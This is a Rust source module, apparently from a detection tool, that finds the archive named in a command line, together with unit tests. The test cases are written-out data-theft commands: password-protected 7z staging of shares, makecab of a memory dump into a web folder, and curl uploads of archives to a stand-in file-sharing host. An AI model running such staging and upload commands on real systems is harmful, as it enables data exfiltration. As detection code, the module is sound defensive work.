//! Archives that a command line names: what a packer writes and an upload sends.

/// Endings by which archives, mail stores and memory dumps go.
const ENDINGS: [&str; 14] =
    ["7z", "rar", "zip", "cab", "tar", "gz", "tgz", "bz2", "xz", "zst", "pst", "ost", "mdb", "bak"];

/// The first archive that a command line names, as it stands there; `None` where it names none. A
/// name with a wildcard names no file, and neither does an address on the web.
pub(crate) fn archive(line: &str) -> Option<&str> {
    words(line).map(bare).find(|word| is_archive(word))
}

/// Words between blanks, quoted ones whole.
fn words(line: &str) -> impl Iterator<Item = &str> {
    let mut rest = line;
    std::iter::from_fn(move || {
        rest = rest.trim_start_matches(|c: char| {
            c.is_whitespace() || matches!(c, '&' | '|' | '(' | ')' | ',' | ';')
        });
        let quote = rest.chars().next()?;
        let (word, after) = if matches!(quote, '"' | '\'') {
            rest[1..].split_once(quote).unwrap_or((&rest[1..], ""))
        } else {
            let end =
                rest.find(|c: char| c.is_whitespace() || matches!(c, '&' | '|' | ')' | ',' | ';' | '"'));
            rest.split_at(end.unwrap_or(rest.len()))
        };
        rest = after;
        Some(word)
    })
}

/// Without what joins a file to an option: `file=@C:\a.zip` and `-o:C:\a.zip` name `C:\a.zip`.
fn bare(word: &str) -> &str {
    let word = word.rsplit_once('@').map_or(word, |(_, file)| file);
    match word.find(":\\") {
        Some(at) if at > 1 && word.starts_with(['-', '/']) => &word[at - 1..],
        _ => word,
    }
}

fn is_archive(word: &str) -> bool {
    let Some((stem, ending)) = word.rsplit_once('.') else { return false };
    !stem.is_empty()
        && !word.starts_with('-')
        && !word.contains(['*', '?'])
        && !word.contains("://")
        && ENDINGS.iter().any(|known| ending.eq_ignore_ascii_case(known))
}

#[cfg(test)]
mod tests {
    use super::archive;

    #[test]
    fn the_archive_of_a_command_is_found() {
        for (line, wanted) in [
            (
                r"7z.exe a -hpS3cret -v100m C:\ProgramData\a.7z D:\Shares\Registers\*",
                Some(r"C:\ProgramData\a.7z"),
            ),
            (
                r#""C:\Program Files\x.exe" a "C:\Users\Public\my files.rar" D:\Data"#,
                Some(r"C:\Users\Public\my files.rar"),
            ),
            (
                r"makecab C:\Windows\Temp\l.dmp C:\inetpub\wwwroot\aspnet_client\l.cab",
                Some(r"C:\inetpub\wwwroot\aspnet_client\l.cab"),
            ),
            (
                r"curl -k -T C:\ProgramData\a.7z https://files.share.example/u/b.zip",
                Some(r"C:\ProgramData\a.7z"),
            ),
            (r"curl -F file=@C:\x\a.zip https://files.share.example/u", Some(r"C:\x\a.zip")),
            (r"cmd /c cd C:\x&r.exe a y.rar&echo done", Some("y.rar")),
            (r"curl -T x.txt https://files.share.example/u/b.zip", None),
            (r"svc.exe copy C:\Windows\Temp remote:in --config C:\Windows\Temp\r.conf", None),
            (r"rar a *.rar", None),
            ("\"", None),
            ("ü.ZIP 'é", Some("ü.ZIP")),
        ] {
            assert_eq!(archive(line), wanted, "{line}");
        }
    }
}
